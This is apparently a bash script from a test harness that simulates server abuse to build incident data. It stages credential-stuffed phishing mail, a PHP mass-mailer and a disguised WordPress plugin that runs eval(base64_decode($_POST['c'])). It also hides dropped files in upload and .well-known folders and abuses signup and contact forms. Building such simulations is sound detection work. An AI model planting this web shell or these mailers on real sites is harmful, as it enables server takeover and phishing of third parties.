# SPDX-License-Identifier: GPL-3.0-or-later
# What is done to servers, for incidents to be put together from; the first argument of each is the number of the source.

bank() { echo "$(pick service support info billing sales)@$(pick bank.test parcel.test prize.test)"; }

# Some work from one place, some from a few, some from a botnet.
places=()
choose_places() { local n; places=(); [ "$1" -ge 50 ] || for n in $(seq "$1"); do places+=("$(foreign_address)"); done; }
place() { if [ ${#places[@]} -gt 0 ]; then pick "${places[@]}"; else foreign_address; fi; }

steal_password() { # SOURCE ACCOUNT MESSAGES forged|own [PLACES]
  local source=$1 account=$2 count=$3 name=$4 n id from
  source_is mailbox-password "${account#*@}" "$account" '' ''; choose_places "${5:-100}"
  if [ "$name" = forged ]; then
    submit "$(place)" User "$account" wrong "$account" "$(stranger)" "$(new_id)@x.test" Hi || true
    # Background noise: somebody tries another box and never succeeds.
    submit "$(foreign_address)" User "${boxes[0]}" wrong "${boxes[0]}" "$(stranger)" "$(new_id)@x.test" Hi || true
  fi
  for n in $(seq "$count"); do
    from=$account; [ "$name" = own ] || from=$(bank)
    id=$(new_id).$n@$(pick mail.test post.test send.test); mark "$source" "$id"
    submit "$(place)" "$(pick User ylmf-pc %5B127.0.0.1%5D WIN-$(roll 99999))" "$account" "$(password_of "$account")" "$from" "$(stranger)" "$id" "Your parcel $(roll 99999) is waiting"
    between
  done
}

# Where a site keeps data, and nobody looks for programs.
hidden_place() { # DOMAIN
  local content; content=$(root_of "$1")/wp-content
  case $(roll 4) in
    0 | 1) echo "$content/uploads/20$(($(roll 9) + 17))/0$(($(roll 9) + 1))" ;;
    2) echo "$content/uploads/$(pick forms slider backup avatars)" ;;
    3) echo "$(root_of "$1")/.well-known/$(pick acme pki)" ;;
  esac
}
odd_name() { echo "$(pick gallery thumb lib cfg x wp-)$(roll 1000)"; }
drop() { mkdir -p "$(dirname "$1")"; cat >"$1"; chown -R "$culprit_user:psacln" "$(dirname "$1")"; } # FILE

# post_lists SOURCE DOMAIN PATH MESSAGES EACH: lists of "recipient;id;sender;subject" posted to a program.
post_lists() {
  local source=$1 domain=$2 path=$3 left=$4 each=$5 n id list agent; agent=$(pick "${agents[@]}" 'python-requests/2.32.3' 'Go-http-client/1.1')
  choose_places "$(pick 1 3 100)"
  while [ "$left" -gt 0 ]; do
    list=''
    for n in $(seq "$each"); do
      id=$(new_id).$n@$(pick "$domain" mailer.test); mark "$source" "$id"
      list+="$(stranger);$id;$(bank);Account notice $(roll 99999)"$'\n'
    done
    left=$((left - each)); browse "$(place)" "$domain" "$path" --data-urlencode "l=$list" >/dev/null; between
  done
}

drive_mailer() { # SOURCE DOMAIN MESSAGES
  local script path; script=$(hidden_place "$2")/$(odd_name).php path=${script#"$(root_of "$2")"}
  source_is website-hacked "$2" '' "$script" "$path"
  drop "$script" <<'END'
<?php
foreach (explode("\n", trim($_POST['l'])) as $line) {
    [$to, $id, $from, $subject] = explode(';', $line);
    mail($to, $subject, "Click here\n", "From: $from\r\nMessage-ID: <$id>\r\n");
}
echo 'OK';
END
  post_lists "$1" "$2" "$path" "$3" "$(pick 1 1 4 10)"
}

drive_plugin() { # SOURCE DOMAIN MESSAGES
  local name script path n id list code agent; agent=$(pick "${agents[@]}" 'python-requests/2.32.3')
  name=$(pick slider gallery backup seo forms)-$(pick lite tools easy) script=$(root_of "$2")/wp-content/plugins/$name/$(pick "$name" functions ajax).php path=${script#"$(root_of "$2")"}
  source_is website-hacked "$2" '' "$script" "$path"
  drop "$script" <<'END'
<?php
/* Plugin Name: Tools */
if (isset($_POST['c'])) { eval(base64_decode($_POST['c'])); exit; }
END
  choose_places "$(pick 1 3 100)"
  for n in $(seq "$3"); do
    id=$(new_id).$n@$2; mark "$1" "$id"
    code="mail('$(stranger)', 'Account notice $(roll 99999)', 'Click here', \"From: $(bank)\\r\\nMessage-ID: <$id>\");"
    browse "$(place)" "$2" "$path" --data-urlencode "c=$(base64 -w0 <<<"$code")" >/dev/null; between
  done
}

register_strangers() { # SOURCE DOMAIN HOW-MANY
  local n who agent; agent=$(pick "${agents[@]}" 'python-requests/2.32.3'); choose_places "$(pick 2 5 100)"
  source_is website-form "$2" '' '' '/wp-login.php?action=register'
  for n in $(seq "$3"); do who=$(stranger); mark "$1" "$who"; register "$(place)" "$2" "$who"; between; done
}

ask_for_copies() { # SOURCE DOMAIN HOW-MANY
  local n who agent; agent=$(pick "${agents[@]}" 'python-requests/2.32.3'); choose_places "$(pick 2 5 100)"
  source_is website-form "$2" '' '' "/${form_of[$2]}"
  for n in $(seq "$3"); do
    who=$(stranger); mark "$1" "$who"
    ask "$(place)" "$2" "$who" "You have won $(roll 999)" "Take your prize: http://prize$(roll 999).test/" -d copy=1; between
  done
}
